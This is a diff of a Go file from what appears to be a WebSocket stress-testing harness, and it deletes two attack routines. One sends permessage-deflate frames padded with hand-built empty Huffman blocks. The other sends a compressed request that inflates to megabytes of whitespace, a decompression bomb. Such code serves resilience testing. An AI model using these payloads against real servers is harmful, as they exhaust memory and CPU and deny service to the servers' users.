@@ -4,7 +4,6 @@ package main
 
 import (
 	"bytes"
-	"compress/flate"
 	"fmt"
 	"strings"
 	"time"
@@ -23,102 +22,6 @@ func requestFrame(event, id, data string) []byte {
 func requestText(event, id, data string) []byte {
 	return fmt.Appendf(nil, `{"type":"request","event":"%s","request_id":"%s","data":%s}`, event, id, data)
 }
-
-// deflateHeaders asks for compression.
-const deflateHeaders = "Sec-WebSocket-Extensions: permessage-deflate; client_no_context_takeover; server_no_context_takeover\r\n"
-
-// opDeflatedText is the first byte of a compressed text, without the bit of the
-// last fragment.
-const opDeflatedText = 0x40 | opText
-
-// bitWriter writes the bits of a deflate stream.
-type bitWriter struct {
-	b    []byte
-	used int // bits of the last byte
-}
-
-// put writes the n lowest bits of v, the lowest first.
-func (w *bitWriter) put(v uint32, n int) {
-	for ; n > 0; n-- {
-		if w.used&7 == 0 {
-			w.b = append(w.b, 0)
-		}
-		w.b[len(w.b)-1] |= byte(v&1) << (w.used & 7)
-		w.used++
-		v >>= 1
-	}
-}
-
-// emptyBlock writes a block with Huffman codes of its own and nothing in it (RFC
-// 1951, section 3.2.7), in 90 bits.
-func (w *bitWriter) emptyBlock() {
-	w.put(0, 1)  // not the last
-	w.put(2, 2)  // dynamic codes
-	w.put(0, 5)  // 257 literal codes
-	w.put(0, 5)  // 1 distance code
-	w.put(14, 4) // 18 lengths of code length codes, in their peculiar order
-	for i := range 18 {
-		switch i {
-		case 2, 17: // those of 18 (many zeros) and 1
-			w.put(1, 3)
-		default:
-			w.put(0, 3)
-		}
-	}
-	w.put(1, 1) // 138 zeros
-	w.put(127, 7)
-	w.put(1, 1) // 118 zeros
-	w.put(107, 7)
-	w.put(0, 1) // length 1 for the end of the block ...
-	w.put(0, 1) // ... and for the distance
-	w.put(0, 1) // the end of the block
-}
-
-// emptyBlocks is text, stored, with empty blocks behind it, in size bytes or a
-// few more: a permessage-deflate payload.
-func emptyBlocks(text []byte, size int) []byte {
-	w := new(bitWriter)
-	w.put(0, 8) // a stored block that is not the last
-	n := uint16(len(text))
-	w.b = append(w.b, byte(n), byte(n>>8), byte(^n), byte(^n>>8))
-	w.b = append(w.b, text...)
-	for len(w.b) < size {
-		w.emptyBlock()
-	}
-	w.put(0, 3) // the stored block whose other bytes RFC 7692 leaves out
-	return w.b
-}
-
-func prepareEmptyBlocks(*strike) any {
-	return maskedFrame(opDeflatedText, emptyBlocks(requestText("noop", "1", `{}`), attackBytes))
-}
-
-// inflateEmpty sends 1.7 MB in a second.
-func inflateEmpty(s *strike, i int) {
-	message := s.shared.([]byte)
-	s.reconnecting(deflateHeaders, func(a *attacker) {
-		at := 0
-		s.paced(i, 50, func(int) bool {
-			end := min(len(message), at+34_000)
-			err := a.write(message[at:end])
-			at = end % len(message)
-			return err == nil
-		})
-	})
-}
-
-// ratioMessage inflates to attackBytes; the rest of it is white space.
-func ratioMessage() []byte {
-	var b bytes.Buffer
-	w, _ := flate.NewWriter(&b, flate.BestCompression) // the level is valid
-	_, _ = w.Write(requestText("noop", "1", "{"+strings.Repeat(" ", attackBytes)+"}"))
-	_ = w.Flush()
-	return bytes.TrimSuffix(b.Bytes(), []byte{0, 0, 0xFF, 0xFF})
-}
-
-func prepareRatio(*strike) any { return maskedFrame(opDeflatedText, ratioMessage()) }
-
-func inflateRatio(s *strike, i int) { s.sendPaced(i, 310, deflateHeaders) }
 
 // prepareRequestID returns a request whose ID would grow sixfold in an answer
 // that encoding/json writes.
